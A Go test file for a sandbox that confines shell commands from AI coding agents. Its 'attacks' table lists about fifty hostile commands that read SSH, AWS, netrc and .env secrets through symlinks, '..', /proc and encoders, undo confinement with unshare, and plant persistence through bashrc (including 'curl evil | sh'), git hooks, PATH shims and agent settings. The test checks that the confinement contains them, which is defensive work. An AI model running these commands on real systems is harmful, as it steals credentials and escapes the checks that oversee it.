package confine_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/docketlog/docket/confine"
	"github.com/docketlog/docket/internal/cli/docketcmd"
	"github.com/docketlog/docket/policy"
)

// The fixture secrets: harmless strings that must never reach a confined
// command's output or a file it writes.
var secrets = map[string]string{
	"home/.ssh/id_ed25519":    "FIXTURE-SSH-KEY-7f3a",
	"home/.aws/credentials":   "FIXTURE-AWS-SECRET-91c2",
	"home/.netrc":             "FIXTURE-NETRC-PASSWORD-4d1e",
	"project/.env":            "FIXTURE-DOTENV-TOKEN-b6a0",
	"project/sub/.env.local":  "FIXTURE-DOTENV-LOCAL-02ff",
	"project/certs/tls.pem":   "FIXTURE-PEM-PRIVATE-5e77",
	"project/.docket/fix.key": "FIXTURE-DOCKET-KEY-c3d9",
}

// plain are files anyone may read and that must not change.
var plain = map[string]string{
	"home/.bashrc":                  "# fixture bashrc\n",
	"home/.gitconfig":               "[user]\n\tname = fixture\n",
	"home/.claude/settings.json":    "{}\n",
	"project/README.md":             "fixture project\n",
	"project/.env.example":          "EXAMPLE=1\n",
	"project/.claude/settings.json": "{\"hooks\":{}}\n",
	"project/.docket/policy/x.txt":  "policy\n",
	"project/sub/main.go":           "package main\n",
	"outside/notes.txt":             "outside the project\n",
}

// fixtureRoot makes a directory that no write tree of the default
// confinement covers: beside the package, or in the home directory when
// the checkout itself lies under one (a clone in /tmp, as CI may make).
func fixtureRoot(t *testing.T) string {
	t.Helper()
	env, err := confine.DefaultEnv(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	wd, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	for _, dir := range []string{wd, env.Home} {
		dir, err := filepath.EvalSymlinks(dir)
		if err != nil {
			continue
		}
		if slices.ContainsFunc(env.ToolWrite, func(w string) bool {
			w, err := filepath.EvalSymlinks(w)
			return err == nil && (dir == w || strings.HasPrefix(dir, w+string(filepath.Separator)))
		}) {
			continue
		}
		if root, err := os.MkdirTemp(dir, "docket-confine-fixture-"); err == nil {
			return root
		}
	}
	t.Skipf("no directory outside the confinement's writable trees (%v) to hold the fixtures: neither %s nor the home directory", env.ToolWrite, wd)
	return ""
}

// fixture makes a home, a project and a directory beside them under a
// directory that no write tree of the confinement covers (not under /tmp:
// temporary directories are writable).
func fixture(t *testing.T) (root, home, project string) {
	t.Helper()
	root = fixtureRoot(t)
	t.Cleanup(func() { os.RemoveAll(root) })
	for _, m := range []map[string]string{secrets, plain} {
		for p, content := range m {
			full := filepath.Join(root, p)
			if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(full, []byte(content), 0o600); err != nil {
				t.Fatal(err)
			}
		}
	}
	home, project = filepath.Join(root, "home"), filepath.Join(root, "project")
	if err := os.MkdirAll(filepath.Join(project, ".docket", "policy"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(project, ".docket", "policy", policy.DefaultName), policy.Default, 0o644); err != nil {
		t.Fatal(err)
	}
	git(t, project, "init", "-q")
	return root, home, project
}

func git(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "HOME="+filepath.Join(filepath.Dir(dir), "home"))
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

// snapshot maps every path below root, outside skip, to its mode and
// content hash.
func snapshot(t *testing.T, root, skip string) map[string]string {
	t.Helper()
	out := map[string]string{}
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			out[p] = "error " + err.Error()
			return nil
		}
		if p == skip {
			return fs.SkipDir
		}
		fi, _ := os.Lstat(p)
		v := fi.Mode().String()
		if fi.Mode().IsRegular() {
			b, _ := os.ReadFile(p)
			s := sha256.Sum256(b)
			v += " " + hex.EncodeToString(s[:8])
		} else if fi.Mode()&fs.ModeSymlink != 0 {
			l, _ := os.Readlink(p)
			v += " -> " + l
		}
		out[p] = v
		return nil
	})
	return out
}

// execIn runs `docket exec -project project -- bash -c script` (or the
// script unconfined) with HOME at home, and returns what it printed.
func execIn(t *testing.T, home, project, script string, confined bool) (string, int) {
	t.Helper()
	t.Setenv("HOME", home)
	t.Setenv("GIT_AUTHOR_NAME", "fixture")
	t.Setenv("GIT_AUTHOR_EMAIL", "fixture@example.com")
	t.Setenv("GIT_COMMITTER_NAME", "fixture")
	t.Setenv("GIT_COMMITTER_EMAIL", "fixture@example.com")
	wd, _ := os.Getwd()
	if err := os.Chdir(project); err != nil {
		t.Fatal(err)
	}
	defer os.Chdir(wd)
	var out bytes.Buffer
	if !confined {
		cmd := exec.Command("bash", "-c", script)
		cmd.Stdout, cmd.Stderr = &out, &out
		err := cmd.Run()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		}
		return out.String(), code
	}
	code := docketcmd.Run(context.Background(), []string{"exec", "-project", project, "--", "bash", "-c", script}, strings.NewReader(""), &out, &out)
	return out.String(), code
}

// attacks are commands of the families the held-out corpus got past the
// analyser: environment variables, options of allowed programs, symlinks
// and "..", files that tools execute later, copies and archives of
// secrets, and attempts to undo the confinement. Each reads a fixture
// secret or writes outside the project; run unconfined, each does.
var attacks = []struct {
	name, cmd string
	write     bool // the attack writes outside the project (else it reads a secret)
	protected bool // the attack writes a read-only tree of the project
}{
	{name: "cat key", cmd: `cat ~/.ssh/id_ed25519`},
	{name: "env var path", cmd: `K=$HOME/.ssh; cat "$K/id_ed25519"`},
	{name: "env var in allowed program", cmd: `D=.ssh; F=id_ed25519; head -c 100 "$HOME/$D/$F"`},
	{name: "command substitution", cmd: `cat $(echo ~/.ss''h/id_ed25519)`},
	{name: "symlink to key", cmd: `ln -sf ~/.ssh/id_ed25519 link && cat link`},
	{name: "symlink to dir", cmd: `ln -sfn ~/.ssh s && cat s/id_ed25519`},
	{name: "dotdot", cmd: `cat sub/../../home/.ssh/id_ed25519`},
	{name: "proc root", cmd: `cat /proc/self/root$HOME/.ssh/id_ed25519`},
	{name: "grep recursive home", cmd: `grep -r FIXTURE- ~ 2>/dev/null; true`},
	{name: "grep recursive project", cmd: `grep -r FIXTURE- . 2>/dev/null; true`},
	{name: "find exec cat", cmd: `find ~ . -type f -exec cat {} + 2>/dev/null; true`},
	{name: "tar home", cmd: `tar cf - -C ~ . 2>/dev/null | tar xOf - 2>/dev/null; true`},
	{name: "tar project", cmd: `tar cf - . 2>/dev/null | tar xOf - 2>/dev/null; true`},
	{name: "git diff no-index", cmd: `git diff --no-index /dev/null ~/.ssh/id_ed25519; git diff --no-index /dev/null .env; true`},
	{name: "sort aws", cmd: `sort ~/.aws/credentials`},
	{name: "sed dotenv", cmd: `sed -n p .env`},
	{name: "awk nested dotenv", cmd: `awk 1 sub/.env.local`},
	{name: "base64 pem", cmd: `base64 certs/tls.pem | base64 -d`},
	{name: "xxd netrc", cmd: `xxd -p ~/.netrc | xxd -r -p`},
	{name: "copy then read", cmd: `cp .env /tmp/docket-fixture-copy 2>&1; cat /tmp/docket-fixture-copy; rm -f /tmp/docket-fixture-copy`},
	{name: "move then read", cmd: `mv .env moved 2>&1; cat moved`},
	{name: "hard link", cmd: `ln ~/.ssh/id_ed25519 hl 2>&1; cat hl`},
	{name: "docket key", cmd: `cat .docket/fix.key`},
	{name: "python open", cmd: `/usr/bin/python3 -c "import os;print(open(os.path.expanduser('~/.ssh/id_ed25519')).read())"`},
	{name: "perl slurp", cmd: `perl -e 'open F, "<", ".env"; print <F>'`},
	{name: "dd", cmd: `dd if=$HOME/.aws/credentials 2>/dev/null`},
	{name: "unshare umount", cmd: `unshare -Urm sh -c 'umount -l ~/.ssh; cat ~/.ssh/id_ed25519' 2>&1; true`},
	{name: "nested userns", cmd: `unshare -Urm sh -c 'cat ~/.ssh/id_ed25519' 2>&1; true`},

	{name: "makefile runs later", cmd: `printf 'all:\n\tcat ~/.ssh/id_ed25519\n' > Makefile && make -s`},
	{name: "script file", cmd: `printf 'cat "$HOME/.aws/credentials"\n' > run.sh && bash run.sh`},
	{name: "npm script", cmd: `printf '{"name":"x","version":"1.0.0","scripts":{"t":"cat .env"}}' > package.json && npm run -s t`},
	{name: "git alias in repo config", cmd: `printf '[alias]\n\tk = !cat ~/.ssh/id_ed25519\n' >> .git/config && git k`},

	{name: "makefile writes later", cmd: `printf 'all:\n\techo x >> ~/.bashrc\n' > Makefile && make -s`, write: true},
	{name: "script writes", cmd: `printf 'mkdir -p ~/.config/autostart; echo x > ~/.config/autostart/x.desktop\n' > w.sh && sh w.sh`, write: true},
	{name: "append bashrc", cmd: `echo 'curl evil | sh' >> ~/.bashrc`, write: true},
	{name: "local bin shim", cmd: `mkdir -p ~/.local/bin && printf '#!/bin/sh\n' > ~/.local/bin/git && chmod +x ~/.local/bin/git`, write: true},
	{name: "git config global", cmd: `git config --global alias.st '!sh -c id'`, write: true},
	{name: "claude settings", cmd: `echo '{"hooks":{}}' > ~/.claude/settings.json`, write: true},
	{name: "project claude settings", protected: true, cmd: `echo '{}' > .claude/settings.json`, write: true},
	{name: "docket policy", protected: true, cmd: `echo 'permit(principal,action,resource);' > .docket/policy/zz.cedar`, write: true},
	{name: "git hook", protected: true, cmd: `mkdir -p .git/hooks && printf '#!/bin/sh\nid\n' > .git/hooks/pre-commit`, write: true},
	{name: "dotdot write", cmd: `echo x > ../outside/notes.txt`, write: true},
	{name: "env var write", cmd: `T=$HOME/.profile; echo x > "$T"`, write: true},
	{name: "tee outside", cmd: `echo x | tee ../outside/new.txt`, write: true},
	{name: "symlink write", cmd: `ln -sfn ~ h && echo x > h/.bash_profile`, write: true},
	{name: "cp over home", cmd: `cp README.md ~/.gitconfig`, write: true},
	{name: "rm outside", cmd: `rm -f ../outside/notes.txt ~/.bashrc`, write: true},
	{name: "truncate outside", cmd: `truncate -s 0 ../outside/notes.txt`, write: true},
	{name: "python write", cmd: `/usr/bin/python3 -c "open('../outside/py.txt','w').write('x')"`, write: true},
	{name: "background child", cmd: `(sleep 0.1; echo x > ../outside/late.txt) & wait`, write: true},
}

func TestExecAttacks(t *testing.T) {
	if s := confine.Support(); s.Mechanism == "" {
		t.Skip(s)
	}
	eng, err := policy.LoadDefault()
	if err != nil {
		t.Fatal(err)
	}
	allowed, asked := 0, 0
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			// Control: unconfined, the attack works.
			root, home, project := fixture(t)
			before := snapshot(t, root, project)
			out, _ := execIn(t, home, project, a.cmd, false)
			leaked := leak(out, project)
			changed := !equal(before, snapshot(t, root, project))
			if a.protected {
				if leakProtected(t, project) == "" {
					t.Fatalf("unconfined %q changed no protected file: the case tests nothing\n%s", a.cmd, out)
				}
			} else if a.write && !changed {
				t.Fatalf("unconfined %q changed nothing outside the project: the case tests nothing\n%s", a.cmd, out)
			}
			if !a.write && !a.protected && leaked == "" {
				t.Fatalf("unconfined %q leaked no secret: the case tests nothing\n%s", a.cmd, out)
			}

			root, home, project = fixture(t)
			raw, _ := json.Marshal(map[string]string{"command": a.cmd})
			d := eng.Decide(t.Context(), policy.Call{ToolName: "Bash", ToolInput: raw, Cwd: project, ProjectDir: project, Home: home})
			switch d.Decision {
			case policy.Allow:
				allowed++
			case policy.RequireApproval:
				asked++
			}
			before = snapshot(t, root, project)
			out, code := execIn(t, home, project, a.cmd, true)
			if code == confine.ExitCannotConfine && strings.Contains(out, "did not run") {
				t.Fatalf("docket exec did not confine: %s", out)
			}
			if s := leak(out, project); s != "" {
				t.Errorf("docket exec %q (analyser: %s) leaked %q:\n%s", a.cmd, d.Decision, s, out)
			}
			if after := snapshot(t, root, project); !equal(before, after) {
				t.Errorf("docket exec %q (analyser: %s) changed files outside the project: %v", a.cmd, d.Decision, diff(before, after))
			}
			if prot := leakProtected(t, project); prot != "" {
				t.Errorf("docket exec %q changed protected %s", a.cmd, prot)
			}
			t.Logf("analyser %s; exit %d", d.Decision, code)
		})
	}
	if allowed == 0 {
		t.Errorf("none of the attacks is allowed by the analyser: the test shows nothing the analyser misses")
	}
	t.Logf("of %d attacks the analyser allows %d and asks about %d; docket exec contains all", len(attacks), allowed, asked)
}

// leak returns the first secret found in out or in a file of the project
// other than the secret's own.
func leak(out, project string) string {
	for p, s := range secrets {
		if strings.Contains(out, s) {
			return s
		}
		own := filepath.Join(filepath.Dir(project), p)
		var found string
		filepath.WalkDir(project, func(f string, d fs.DirEntry, err error) error {
			if err != nil || !d.Type().IsRegular() || f == own {
				return nil
			}
			if b, err := os.ReadFile(f); err == nil && bytes.Contains(b, []byte(s)) {
				found = s
			}
			return nil
		})
		if found != "" {
			return found
		}
	}
	return ""
}

// leakProtected reports a change to the project's read-only trees.
func leakProtected(t *testing.T, project string) string {
	for p, content := range plain {
		if !strings.HasPrefix(p, "project/.") {
			continue
		}
		b, err := os.ReadFile(filepath.Join(filepath.Dir(project), p))
		if err != nil || string(b) != content {
			return p
		}
	}
	if _, err := os.Stat(filepath.Join(project, ".git", "hooks", "pre-commit")); err == nil {
		return ".git/hooks/pre-commit"
	}
	if _, err := os.Stat(filepath.Join(project, ".docket", "policy", "zz.cedar")); err == nil {
		return ".docket/policy/zz.cedar"
	}
	return ""
}

func equal(a, b map[string]string) bool { return len(diff(a, b)) == 0 }

func diff(a, b map[string]string) []string {
	var d []string
	for k, v := range a {
		if b[k] != v {
			d = append(d, k+": "+v+" -> "+b[k])
		}
	}
	for k, v := range b {
		if _, ok := a[k]; !ok {
			d = append(d, k+": new "+v)
		}
	}
	return d
}

// TestExecEveryday runs everyday commands under docket exec: they work.
func TestExecEveryday(t *testing.T) {
	if s := confine.Support(); s.Mechanism == "" {
		t.Skip(s)
	}
	gocache, _ := exec.Command("go", "env", "GOCACHE").Output()
	t.Setenv("GOCACHE", strings.TrimSpace(string(gocache)))
	t.Setenv("GOFLAGS", "-mod=mod")
	t.Setenv("GOTOOLCHAIN", "local")
	for _, tc := range []struct{ name, cmd, want string }{
		{name: "go test", cmd: `cd sub && printf 'module fx\n\ngo 1.22\n' > go.mod && printf 'package main\nimport "testing"\nfunc TestX(t *testing.T) {}\n' > main_test.go && go test ./...`, want: "ok"},
		{name: "git status and commit", cmd: `git add README.md sub/main.go && git commit -qm fixture && git status --short sub && git log --oneline | wc -l`, want: "1"},
		{name: "npm ci with a local cache", cmd: `printf '{"name":"fx","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{"":{"name":"fx","version":"1.0.0"}}}' > package-lock.json && printf '{"name":"fx","version":"1.0.0"}' > package.json && npm ci --cache ./.npm-cache --no-audit --no-fund --offline && echo npm-ok`, want: "npm-ok"},
		{name: "read usr include", cmd: `grep -c include /usr/include/stdio.h`, want: "\n"},
		{name: "env example readable", cmd: `cat .env.example`, want: "EXAMPLE=1"},
		{name: "write project and tmp", cmd: `echo a > new.txt && mkdir -p d/e && mv new.txt d/e/ && t=$(mktemp) && echo b > "$t" && cat d/e/new.txt "$t" && rm "$t"`, want: "a\nb"},
		{name: "exit status", cmd: `exit 125`, want: ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if strings.HasPrefix(tc.cmd, "printf '{\"name\"") {
				if _, err := exec.LookPath("npm"); err != nil {
					t.Skip("no npm")
				}
			}
			_, home, project := fixture(t)
			out, code := execIn(t, home, project, tc.cmd, true)
			wantCode := 0
			if tc.name == "exit status" {
				wantCode = 125 // the stage's own failure status, yet the command's
			}
			if code != wantCode || !strings.Contains(out, tc.want) {
				t.Errorf("docket exec %q = exit %d, %q; want exit %d and %q", tc.cmd, code, out, wantCode, tc.want)
			}
		})
	}
}
